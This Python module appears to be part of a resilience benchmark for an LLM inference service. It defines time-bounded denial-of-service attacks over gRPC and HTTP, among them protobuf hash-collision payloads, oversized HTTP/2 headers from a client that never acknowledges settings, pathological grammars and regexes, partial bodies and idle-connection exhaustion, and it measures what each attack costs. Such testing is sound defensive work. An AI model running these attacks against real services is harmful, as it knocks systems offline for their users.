"""The attackers: one function a class, each bounded in time, count and bytes.

Each runs in a process of its own, whose processor time is part of what the attack costs:
``python -m hostile_bench.attacks NAME '{"grpc": "127.0.0.1:50051", ..., "seconds": 10}'``.
"""

import asyncio
import http.client
import json
import resource
import socket
import struct
import sys
import threading
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from typing import Any

import grpc

from hostile_bench import http2
from hostile_bench.live_service import ATTACKER_KEY
from penstock.v1 import constraint_pb2, generation_pb2 as pb, tokenizer_pb2
from penstock.v1.generation_pb2_grpc import GenerationServiceStub
from penstock.v1.tokenizer_pb2_grpc import TokenizerServiceStub

_MIB = 1 << 20
_METADATA = (("authorization", f"Bearer {ATTACKER_KEY}"),)
_PAUSE_S = 0.01
"""After a refusal, so that an attack is not one more program that counts in a loop."""


@dataclass
class Attack:
    """What an attacker is told, and what it counts."""

    grpc: str
    http: str
    metrics: str
    seconds: float
    num_calls: int = 0
    num_bytes: int = 0
    answers: Counter[str] = field(default_factory=Counter)

    def __post_init__(self) -> None:
        self._until = time.monotonic() + self.seconds

    @property
    def is_on(self) -> bool:
        """Whether there is time left."""
        return time.monotonic() < self._until

    @property
    def left_s(self) -> float:
        """How much."""
        return max(0.0, self._until - time.monotonic())

    def count(self, num_bytes: int, answer: str) -> None:
        """A call and what came of it."""
        self.num_calls += 1
        self.num_bytes += num_bytes
        self.answers[answer] += 1


# Over gRPC, with a key ------------------------------------------------------------------------------------------------


def constraint_choice(attack: Attack) -> None:
    """One request, n = 64, whose output must be one text of 250 KB."""
    _generate(attack, constraint_pb2.Constraint(choices=constraint_pb2.Choices(values=["A" * 250_000])), n=64)


def constraint_grammar(attack: Attack) -> None:
    """A grammar of 30 bytes that is ambiguous without end."""
    _generate(attack, constraint_pb2.Constraint(lark="start: s\ns: s s s | s s | /./"), n=8)


def refused_prompts(attack: Attack) -> None:
    """Prompts of 4 MiB that are tokenized, and then are too long."""
    chat = pb.Chat(messages=[pb.ChatMessage(role="user", content="7" * (4 * _MIB - 64))])
    request = pb.CompleteRequest(start=pb.Start(chat=chat))
    _again(attack, request.ByteSize(), lambda stubs: stubs[0].Complete(request, metadata=_METADATA), at_once=3)


def refused_tokenize(attack: Attack) -> None:
    """Texts of 4 MiB whose tokens are too many for an answer."""
    request = tokenizer_pb2.TokenizeRequest(text="a b " * _MIB)
    _again(attack, request.ByteSize(), lambda stubs: stubs[1].Tokenize(request, metadata=_METADATA), at_once=2)


def map_collisions(attack: Attack) -> None:
    """160 KB of keys that share a place in protobuf's hash table."""
    number = pb.Sampling.DESCRIPTOR.fields_by_name["logit_bias"].number
    keys = ((key << 16) & 0xFFFFFFFF for key in range(13_000))
    bias = b"".join(_field(number, b"\x08" + _varint(key) + b"\x15\0\0\x80?") for key in keys)
    start = pb.Start(text="x").SerializeToString()
    start += _field(pb.Start.DESCRIPTOR.fields_by_name["sampling"].number, bias)
    raw = _field(pb.CompleteRequest.DESCRIPTOR.fields_by_name["start"].number, start)

    async def run() -> None:
        async with grpc.aio.insecure_channel(attack.grpc) as channel:
            call: Any = channel.unary_unary("/penstock.v1.GenerationService/Complete")
            await _at_once(attack, len(raw), lambda: call(raw, metadata=_METADATA), 4)

    asyncio.run(run())


def stalled_streams(attack: Attack) -> None:
    """40 long streams with log-probabilities that nobody reads."""
    sampling = pb.Sampling(max_tokens=16_000, ignore_eos=True)
    start = pb.Start(text="x", output=pb.Output(logprobs=20), sampling=sampling)
    body = http2.message(pb.GenerateOneRequest(start=start).SerializeToString())
    _unread(attack, "/penstock.v1.GenerationService/GenerateOne", body, 40)


def unread_answers(attack: Attack) -> None:
    """60 answers of 4 MiB that nobody reads."""
    request = tokenizer_pb2.DetokenizeRequest(token_ids=[258] * 1_000_000)
    _unread(attack, "/penstock.v1.TokenizerService/Detokenize", http2.message(request.SerializeToString()), 60)


# Over gRPC, without a key ---------------------------------------------------------------------------------------------


def heads(attack: Attack) -> None:
    """40 heads of 15 MiB by a client that never acknowledges the settings that forbid them."""
    connection = http2.Connection(attack.grpc, acknowledges=False)
    for _ in range(40):
        if not (connection.is_open and attack.is_on):
            break
        stream = connection.call("/grpc.health.v1.Health/Watch", [(b"x-a", b"v" * (15 * _MIB))])
        connection.send(stream, http2.message(b""), ends=True, timeout_s=1)
        attack.count(0, "sent")
    _keep(attack, [connection])


def partial_messages(attack: Attack) -> None:
    """200 health checks of 8 MiB that lack their last byte."""
    _partial(attack, "/grpc.health.v1.Health/Check", "", 200)


def partial_messages_with_key(attack: Attack) -> None:
    """The same with a key, for a method that takes large messages."""
    _partial(attack, "/penstock.v1.GenerationService/Complete", ATTACKER_KEY, 100)


def idle_connections(attack: Attack) -> None:
    """400 connections to the gRPC port that say nothing; those that are closed are made anew."""
    _idle(attack, attack.grpc, 400)


def bad_bytes(attack: Attack) -> None:
    """Connections, one after another, that send what is no protocol, to each port."""
    while attack.is_on:
        for target in (attack.grpc, attack.http):
            try:
                with _connect(target) as connection:
                    connection.sendall(b"\x16\x03\x01\xff\xfe GET \0\r\n\r\n" * 8)
                    connection.settimeout(0.2)
                    connection.recv(100)
                attack.count(120, "closed")
            except OSError as error:
                attack.count(120, type(error).__name__)
        time.sleep(0.002)


# Over HTTP ------------------------------------------------------------------------------------------------------------


def gateway_bodies(attack: Attack) -> None:
    """Six connections with refused bodies of 16 MiB, one after another."""
    body = b'{"input":[' + b"1," * (8 * _MIB - 100) + b"1]}"

    def again() -> None:
        while attack.is_on:
            attack.count(len(body), _post(attack, "/v1/embeddings", body))

    _threads(again, 6)


def gateway_bodies_that_almost_end(attack: Attack) -> None:
    """64 bodies of 15 MiB that lack their last byte."""
    size = 15 * _MIB
    head = f"POST /v1/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {size}\r\n"
    head += f"Authorization: Bearer {ATTACKER_KEY}\r\n\r\n"
    data = head.encode() + b'{"prompt":"' + b"x" * (size - 12)
    held = []
    for _ in range(64):
        if not attack.is_on:
            break
        try:
            connection = _connect(attack.http)
            connection.settimeout(2)
            held.append(connection)
            connection.sendall(data)
            attack.count(len(data), "sent")
        except OSError as error:
            attack.count(0, type(error).__name__)
    _wait(attack)
    for connection in held:
        connection.close()


def gateway_places(attack: Attack) -> None:
    """200 streams of one tenant that go on for as long as they may."""
    body = json.dumps({"prompt": "x", "max_tokens": 1000, "ignore_eos": True, "stream": True}).encode()

    def again() -> None:
        while attack.is_on:
            attack.count(len(body), _post(attack, "/v1/completions", body))

    _threads(again, 200)


def idle_metrics(attack: Attack) -> None:
    """64 connections to the page of metrics that say nothing."""
    _idle(attack, attack.metrics, 64)


def tool_parser(attack: Attack) -> None:
    """A regular expression has the model write what one attempt after another at a tool call fails at."""
    body = json.dumps(
        {
            "messages": [{"role": "user", "content": "x"}],
            "tools": [{"type": "function", "function": {"name": "f", "parameters": {"type": "object"}}}],
            "structured_outputs": {"regex": '(<tool_call>\\{"x":\\[)*'},
            "max_tokens": 3000,
            "min_tokens": 2999,
            "n": 8,
            "stream": True,
        }
    ).encode()
    while attack.is_on:
        attack.count(len(body), _post(attack, "/v1/chat/completions", body))


# ----------------------------------------------------------------------------------------------------------------------


def _generate(attack: Attack, constraint: constraint_pb2.Constraint, n: int) -> None:
    sampling = pb.Sampling(max_tokens=8000, n=n)
    request = pb.GenerateOneRequest(start=pb.Start(text="Once", sampling=sampling, constraint=constraint))

    async def run() -> None:
        async with grpc.aio.insecure_channel(attack.grpc) as channel:
            stub = GenerationServiceStub(channel)
            while attack.is_on:
                call = stub.GenerateOne(request, metadata=_METADATA, timeout=attack.left_s)
                try:
                    async for _ in call:
                        pass
                    answer = "OK"
                except grpc.aio.AioRpcError as error:
                    answer = error.code().name
                attack.count(request.ByteSize(), answer)
                await asyncio.sleep(_PAUSE_S)

    asyncio.run(run())


def _again(attack: Attack, size: int, call: Callable[[Any], Awaitable[object]], at_once: int) -> None:
    async def run() -> None:
        async with grpc.aio.insecure_channel(attack.grpc) as channel:
            stubs = GenerationServiceStub(channel), TokenizerServiceStub(channel)
            await _at_once(attack, size, lambda: call(stubs), at_once)

    asyncio.run(run())


async def _at_once(attack: Attack, size: int, call: Callable[[], Awaitable[object]], number: int) -> None:
    async def again() -> None:
        while attack.is_on:
            try:
                await asyncio.wait_for(call(), attack.left_s)
                answer = "OK"
            except grpc.aio.AioRpcError as error:
                answer = error.code().name
            except TimeoutError:
                answer = "no answer"
            attack.count(size, answer)
            await asyncio.sleep(_PAUSE_S)

    await asyncio.gather(*(again() for _ in range(number)))


def _partial(attack: Attack, method: str, key: str, number: int) -> None:
    size = 8 * _MIB if not key else 4 * _MIB
    body = b"\0" + struct.pack(">I", size) + bytes(size - 1)
    connections: list[http2.Connection] = []
    for index in range(number):
        if not attack.is_on:
            break
        if index % 50 == 0 or not connections[-1].is_open:
            connections.append(http2.Connection(attack.grpc))
        connection = connections[-1]
        connection.send(connection.call(method, key=key), body, ends=False, timeout_s=0.5)
        attack.count(0, "sent")
    _keep(attack, connections)


def _unread(attack: Attack, method: str, body: bytes, number: int) -> None:
    connection = http2.Connection(attack.grpc, reads=False)
    for _ in range(number):
        if not (connection.is_open and attack.is_on):
            break
        connection.send(connection.call(method, key=ATTACKER_KEY), body, ends=True, timeout_s=2)
        attack.count(0, "sent")
    _keep(attack, [connection])


def _keep(attack: Attack, connections: list[http2.Connection]) -> None:
    """Holds what is open, to the end."""
    while attack.is_on:
        for connection in connections:
            connection.pump(0.1)
        if not any(connection.is_open for connection in connections):
            attack.answers["closed by the service"] += len(connections)
            _wait(attack)
    for connection in connections:
        attack.num_bytes += connection.num_bytes
        attack.answers["reset"] += connection.frames[http2.RESET]
        connection.close()


def _idle(attack: Attack, target: str, number: int) -> None:
    held: list[socket.socket] = []
    while attack.is_on:
        for connection in list(held):
            if _is_closed(connection):
                connection.close()
                held.remove(connection)
                attack.answers["closed by the service"] += 1
        while len(held) < number and attack.is_on:
            try:
                connection = _connect(target)
            except OSError as error:
                attack.count(0, type(error).__name__)
                break
            connection.setblocking(False)
            held.append(connection)
            attack.count(0, "connected")
        time.sleep(0.05)
    for connection in held:
        connection.close()


def _is_closed(connection: socket.socket) -> bool:
    try:
        return connection.recv(1, socket.MSG_PEEK) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


def _post(attack: Attack, path: str, body: bytes) -> str:
    connection = http.client.HTTPConnection(attack.http, timeout=attack.left_s + 0.1)
    headers = {"Content-Type": "application/json", "Authorization": f"Bearer {ATTACKER_KEY}"}
    try:
        connection.request("POST", path, body, headers)
        response = connection.getresponse()
        while attack.is_on and response.read(1 << 16):
            pass
        return str(response.status)
    except (OSError, http.client.HTTPException) as error:
        time.sleep(_PAUSE_S)
        return type(error).__name__
    finally:
        connection.close()


def _threads(work: Callable[[], None], number: int) -> None:
    threads = [threading.Thread(target=work) for _ in range(number)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def _connect(target: str) -> socket.socket:
    host, _, port = target.rpartition(":")
    return socket.create_connection((host, int(port)), timeout=0.5)


def _wait(attack: Attack) -> None:
    time.sleep(attack.left_s)


def _varint(value: int) -> bytes:
    out = b""
    while value > 127:
        out += bytes([value & 127 | 128])
        value >>= 7
    return out + bytes([value])


def _field(number: int, content: bytes) -> bytes:
    return _varint(number << 3 | 2) + _varint(len(content)) + content


ATTACKS: dict[str, Callable[[Attack], None]] = {
    each.__name__: each
    for each in (
        constraint_choice,
        constraint_grammar,
        refused_prompts,
        refused_tokenize,
        map_collisions,
        stalled_streams,
        unread_answers,
        heads,
        partial_messages,
        partial_messages_with_key,
        idle_connections,
        bad_bytes,
        gateway_bodies,
        gateway_bodies_that_almost_end,
        gateway_places,
        idle_metrics,
        tool_parser,
    )
}


def main() -> None:
    """Runs one, and prints what it cost as JSON."""
    name, told = sys.argv[1:]
    attack = Attack(**json.loads(told))
    ATTACKS[name](attack)
    used = resource.getrusage(resource.RUSAGE_SELF)
    cost = {
        "cpu_s": used.ru_utime + used.ru_stime,
        "num_calls": attack.num_calls,
        "num_bytes": attack.num_bytes,
        "answers": dict(attack.answers.most_common(3)),
    }
    print(json.dumps(cost))


if __name__ == "__main__":
    main()
